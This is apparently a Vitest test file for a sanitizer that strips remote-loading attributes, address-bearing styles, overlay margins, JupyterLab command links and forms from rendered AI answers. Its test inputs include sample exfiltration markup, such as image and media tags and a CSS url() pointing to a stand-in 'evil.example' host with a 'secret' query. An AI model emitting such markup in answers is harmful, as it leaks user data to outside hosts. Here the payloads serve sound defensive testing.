import { describe, expect, it } from 'vitest';

import { withoutLoads } from '../src/safety';

const clean = (html: string) => withoutLoads(html, address => `[not loaded: ${address}]`);

describe('showing an answer fetches nothing', () => {
  it.each([
    '<img src="https://evil.example/?q=secret">',
    '<img src="//evil.example/x.png" alt="a cat">',
    '<img srcset="https://evil.example/2x.png 2x">',
    '<video poster="https://evil.example/x"></video>',
    '<audio src="http://evil.example/x"></audio>',
    '<table background="https://evil.example/x"></table>',
    '<img src="/api/contents">'
  ])('%s', html => {
    const shown = clean(html);
    expect(shown).not.toMatch(/(src|srcset|poster|background)=/);
    expect(shown).toContain('[not loaded:');
  });

  it('styles with an address go', () => {
    expect(clean('<p style="background: url(https://evil.example/x)">x</p>')).toBe('<p>x</p>');
  });

  it('styles that pull a text over another one go', () => {
    expect(clean('<p style="margin-top: -80px">x</p><p style="margin:0 -9em">y</p>')).toBe('<p>x</p><p>y</p>');
    expect(clean('<p style="margin-top: 8px">x</p>')).toContain('8px');
  });

  it('commands of JupyterLab go', () => {
    expect(clean('<a data-commandlinker-command="x" data-commandlinker-args="{}">x</a>')).toBe('<a>x</a>');
  });

  it('forms go, and what stood in them stays', () => {
    expect(clean('<form><button>go</button> now</form>')).toBe('<button>go</button> now');
  });

  it('names of our own parts and of JupyterLab go', () => {
    expect(clean('<b id="aiplat-panel" class="aiplat-Answer-facts mine jp-Cell lm-Widget">x</b>')).toBe(
      '<b class="mine">x</b>'
    );
    expect(clean('<div class="jp-RenderedMermaid">x</div>')).toBe('<div class="jp-RenderedMermaid">x</div>');
  });

  it('links, drawings in the text and plain markup stay', () => {
    const html = '<p>a <a href="https://example.org">link</a> <img src="data:image/png;base64,AA=="> <b>b</b></p>';
    expect(clean(html)).toBe(html);
  });
});
